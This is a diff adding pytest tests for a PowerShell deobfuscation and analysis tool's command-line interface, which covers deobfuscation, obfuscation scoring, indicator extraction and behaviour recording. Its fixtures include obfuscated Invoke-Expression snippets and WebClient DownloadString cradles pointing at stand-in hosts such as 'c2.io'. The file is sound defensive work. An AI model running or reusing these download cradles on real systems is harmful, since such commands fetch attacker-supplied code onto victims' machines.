@@ -1,0 +1,98 @@
+"""Tests for the ``python -m repro`` command line interface."""
+
+import io
+import sys
+
+import pytest
+
+from repro.cli import main
+
+
+@pytest.fixture
+def script_file(tmp_path):
+    def make(content: str):
+        path = tmp_path / "sample.ps1"
+        path.write_text(content, encoding="utf-8")
+        return str(path)
+
+    return make
+
+
+def run_cli(argv, capsys):
+    code = main(argv)
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+class TestDeobfuscateCommand:
+    def test_basic(self, script_file, capsys):
+        path = script_file("I`E`X ('wri'+'te-host hi')")
+        code, out, err = run_cli(["deobfuscate", path], capsys)
+        assert code == 0
+        assert out.strip() == "Write-Host hi"
+
+    def test_invalid_input(self, script_file, capsys):
+        path = script_file("'unterminated")
+        code, out, err = run_cli(["deobfuscate", path], capsys)
+        assert code == 1
+        assert "not a valid" in err
+
+    def test_show_layers(self, script_file, capsys):
+        path = script_file("iex 'iex ''write-host x'''")
+        code, out, err = run_cli(
+            ["deobfuscate", "--show-layers", path], capsys
+        )
+        assert code == 0
+        assert "layer 1" in out
+
+    def test_no_rename(self, script_file, capsys):
+        path = script_file("$xqzjw = 'a'+'b'")
+        code, out, _ = run_cli(["deobfuscate", "--no-rename", path], capsys)
+        assert "$xqzjw" in out
+
+
+class TestScoreCommand:
+    def test_scores(self, script_file, capsys):
+        path = script_file("iex ('a'+'b')")
+        code, out, _ = run_cli(["score", path], capsys)
+        assert code == 0
+        assert "alias" in out
+        assert "concat" in out
+        assert "score:" in out
+
+
+class TestKeyinfoCommand:
+    def test_extracts(self, script_file, capsys):
+        path = script_file(
+            "(New-Object Net.WebClient)"
+            ".DownloadString('https://x.test/a.ps1')"
+        )
+        code, out, _ = run_cli(["keyinfo", path], capsys)
+        assert code == 0
+        assert "url\thttps://x.test/a.ps1" in out
+        assert "ps1\t" in out
+
+
+class TestBehaviorCommand:
+    def test_records(self, script_file, capsys):
+        path = script_file(
+            "(New-Object Net.WebClient).DownloadString('http://c2.io/')"
+        )
+        code, out, _ = run_cli(["behavior", path], capsys)
+        assert code == 0
+        assert "net.download_string\thttp://c2.io/" in out
+
+
+class TestTokenizeParse:
+    def test_tokenize(self, script_file, capsys):
+        path = script_file("write-host hi")
+        code, out, _ = run_cli(["tokenize", path], capsys)
+        assert code == 0
+        assert "Command" in out
+
+    def test_parse(self, script_file, capsys):
+        path = script_file("write-host hi")
+        code, out, _ = run_cli(["parse", path], capsys)
+        assert code == 0
+        assert "ScriptBlockAst" in out
+        assert "CommandAst" in out
